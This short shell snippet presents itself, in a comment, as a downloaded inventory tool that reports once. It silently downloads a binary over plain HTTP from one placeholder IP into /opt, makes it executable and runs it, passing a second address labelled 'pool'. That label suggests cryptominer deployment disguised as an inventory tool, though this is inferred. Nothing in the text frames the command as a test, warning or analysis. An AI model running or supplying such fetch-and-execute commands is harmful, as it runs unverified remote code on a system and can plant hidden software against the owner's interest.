# a downloaded inventory tool that reports once
#http 203.0.113.72:8015
#pool 203.0.113.96:8443:http
cd /opt; curl -so inv http://203.0.113.72:8015/inventory-plain; chmod +x inv; ./inv 203.0.113.96 8443
